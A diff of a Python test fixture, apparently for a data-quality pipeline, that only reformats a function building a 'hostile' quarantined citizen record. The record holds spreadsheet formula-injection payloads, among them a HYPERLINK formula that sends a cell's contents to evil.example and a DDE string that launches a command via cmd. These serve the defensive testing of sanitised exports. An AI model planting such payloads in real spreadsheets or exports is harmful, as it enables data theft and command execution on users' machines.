@@ -31,23 +31,60 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
 
 
 def hostile_quarantine() -> pa.Table:
-    record = {"id_number": CITIZEN_ID, "name": NAME, "phone": PHONE, "household_address": ADDRESS,
-              "status": FORMULA, "region_code": "-12.5"}  # fmt: skip
+    record = {
+        "id_number": CITIZEN_ID,
+        "name": NAME,
+        "phone": PHONE,
+        "household_address": ADDRESS,
+        "status": FORMULA,
+        "region_code": "-12.5",
+    }
     reasons = [
-        {"rule": "gb11643", "field": "id_number", "value": CITIZEN_ID, "severity": "error", "dimension": "accuracy",
-         "message": f"公民身份号码 {CITIZEN_ID} 校验位错误"},
-        {"rule": "enum", "field": "status", "value": FORMULA, "severity": "error", "dimension": "conformance",
-         "message": "人员状态不在代码表中"},
-        {"rule": "range", "field": "region_code", "value": "-12.5", "severity": "error", "dimension": "accuracy",
-         "message": "区划代码超出范围"},
-        {"rule": "检查规则", "field": "name", "value": "+cmd|' /C calc'!A0", "severity": "error",
-         "dimension": "accuracy", "message": "@SUM(1+1)"},
-    ]  # fmt: skip
+        {
+            "rule": "gb11643",
+            "field": "id_number",
+            "value": CITIZEN_ID,
+            "severity": "error",
+            "dimension": "accuracy",
+            "message": f"公民身份号码 {CITIZEN_ID} 校验位错误",
+        },
+        {
+            "rule": "enum",
+            "field": "status",
+            "value": FORMULA,
+            "severity": "error",
+            "dimension": "conformance",
+            "message": "人员状态不在代码表中",
+        },
+        {
+            "rule": "range",
+            "field": "region_code",
+            "value": "-12.5",
+            "severity": "error",
+            "dimension": "accuracy",
+            "message": "区划代码超出范围",
+        },
+        {
+            "rule": "检查规则",
+            "field": "name",
+            "value": "+cmd|' /C calc'!A0",
+            "severity": "error",
+            "dimension": "accuracy",
+            "message": "@SUM(1+1)",
+        },
+    ]
     return pa.Table.from_pylist(
-        [{"row_key": CITIZEN_ID, "source_file": None, "source_line": None,
-          "record": json.dumps(record, ensure_ascii=False), "reasons": reasons}],
+        [
+            {
+                "row_key": CITIZEN_ID,
+                "source_file": None,
+                "source_line": None,
+                "record": json.dumps(record, ensure_ascii=False),
+                "reasons": reasons,
+            }
+        ],
         schema=QUARANTINE_SCHEMA,
-    )  # fmt: skip
+    )
 
 
 def plant_hostile_quarantine() -> None:
